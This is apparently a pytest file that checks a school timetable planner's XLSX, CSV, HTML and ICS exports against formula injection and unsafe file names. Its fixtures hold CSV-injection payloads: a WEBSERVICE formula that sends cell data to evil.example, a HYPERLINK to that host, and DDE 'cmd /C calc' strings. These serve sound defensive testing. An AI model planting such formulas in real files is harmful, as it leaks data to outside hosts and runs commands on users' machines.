"""Exports of names and ids that a spreadsheet, a file system or a calendar could misread (issue 19, items 10, 12).

Read back with real readers: openpyxl for XLSX, Python's csv module for CSV, the icalendar parser
for .ics files. OWASP's CSV-injection advice: a cell starting with ``= + - @``, a tab or a carriage
return is a formula to Excel and LibreOffice unless it starts with ``'``.
"""

from __future__ import annotations

import csv
import json
import zipfile
from pathlib import Path

import pytest
from dlp_tiny_school import project
from icalendar import Calendar
from openpyxl import load_workbook

from dlplanner.domain import Project, codec
from dlplanner.io.exports.csv_export import write_csv
from dlplanner.io.exports.html_site import write_html_site
from dlplanner.io.exports.ics import write_ics
from dlplanner.io.exports.xlsx import write_xlsx

FORMULAS = {
    "t1": '=WEBSERVICE("http://evil.example/?"&A1)',
    "t2": '=HYPERLINK("http://evil.example","Click")',
    "t3": "@SUM(1+1)*cmd|' /C calc'!A0",
}
OTHER_FORMULAS = {"c9": "+1+cmd|' /C calc'!A0", "c10": "-2+3", "r1": "\t=1+1", "r2": "\r=1+1"}


def renamed(proj: Project, ids: dict[str, str]) -> Project:
    """``proj`` with records' ids replaced everywhere they are referenced."""
    text = json.dumps(codec.to_data(proj))
    for old, new in ids.items():
        text = text.replace(json.dumps(old), json.dumps(new))
    return codec.from_data(Project, json.loads(text))


def formula_school() -> Project:
    proj = project()
    for record in (*proj.teachers, *proj.cohorts, *proj.rooms):
        record.name = {**FORMULAS, **OTHER_FORMULAS}[record.id]
    scenario = proj.scenarios[0]
    scenario.sections[0].name = "=1+2"
    scenario.day_types[0].name = "=DAY()"
    scenario.bell_schedules[0].blocks[0].label = "=BLOCK()"
    return proj


def test_xlsx_never_writes_a_formula(tmp_path: Path) -> None:
    proj = formula_school()
    (out,) = write_xlsx(proj, proj.scenarios[0], tmp_path / "t.xlsx")
    wb = load_workbook(out)
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    for name in FORMULAS.values():  # shown as they are, as text
        assert name in texts
    assert "=DAY()" in texts and any(t.startswith("=BLOCK()\n") for t in texts)
    assert any(t.startswith("=1+2") for t in texts)


def test_xlsx_keeps_going_over_characters_it_cannot_hold(tmp_path: Path) -> None:
    proj = project()
    proj.teachers[0].name = "Ana\x00\x1b\ufffe Alvarez"
    (out,) = write_xlsx(proj, proj.scenarios[0], tmp_path / "t.xlsx")
    master = load_workbook(out)["Master"]
    assert master.cell(6, 1).value == "Ana\ufffd\ufffd\ufffd Alvarez"


def _cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def test_csv_cells_that_start_like_a_formula_are_prefixed_with_a_quote(tmp_path: Path) -> None:
    proj = formula_school()
    for path in write_csv(proj, proj.scenarios[0], tmp_path / "timetable.csv"):
        cells = _cells(path)
        bad = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        assert not bad, f"{path.name}: {bad[:5]}"
        for name in [*FORMULAS.values(), "+1+cmd|' /C calc'!A0", "\t=1+1", "=1+2", "=DAY()"]:
            assert f"'{name}" in cells, (path.name, name)
        assert "Humanities" in cells and "08:00" in cells  # ordinary text and times stay as they are


LONG = "t-" + "x" * 300


def test_a_long_id_gives_a_short_unique_file_name(tmp_path: Path) -> None:
    proj = renamed(project(), {"t1": LONG, "t2": LONG + "y", "c9": "c-" + "9" * 400})
    scenario = proj.scenarios[0]
    pages = write_html_site(proj, scenario, tmp_path / "site")
    names = [p.name for p in pages]
    assert len(set(names)) == len(names) == 2 + 3 + 2 + 2
    assert all(len(n.encode()) <= 100 for n in names), names
    index = (tmp_path / "site" / "index.html").read_text(encoding="utf-8")
    for page in pages[2:]:
        assert f'href="{page.name}"' in index
    (out,) = write_ics(proj, scenario, tmp_path / "cal.zip")
    with zipfile.ZipFile(out) as zf:
        names = zf.namelist()
        assert len(set(names)) == len(names) == 5 and all(len(n) <= 100 for n in names)
        for name in names:
            Calendar.from_ical(zf.read(name))
    files = write_ics(proj, scenario, tmp_path / "calendars")
    assert sorted(p.name for p in files) == sorted(names)


@pytest.mark.parametrize("fmt", ["html", "ics"])
def test_ids_alike_but_for_case_or_punctuation_get_files_of_their_own(fmt: str, tmp_path: Path) -> None:
    proj = renamed(project(), {"t1": "t.lee", "t2": "t-lee", "t3": "T-LEE"})
    scenario = proj.scenarios[0]
    if fmt == "html":
        written = write_html_site(proj, scenario, tmp_path / "site")
    else:
        written = write_ics(proj, scenario, tmp_path / "calendars")
    teachers = sorted(p.name for p in written if p.name.startswith("teacher-"))
    assert len(teachers) == 3 and len({n.casefold() for n in teachers}) == 3, teachers
    if fmt == "ics":  # each calendar holds its own teacher's events
        summaries = {
            name: {
                str(e["SUMMARY"])
                for e in Calendar.from_ical((tmp_path / "calendars" / name).read_bytes()).walk()
                if e.name == "VEVENT"
            }
            for name in teachers
        }
        assert sorted(map(sorted, summaries.values())) == sorted(
            [["Advisory Crew Cy", "Science 9"], ["Humanities 9"], ["Math 10", "Math 9"]]
        )
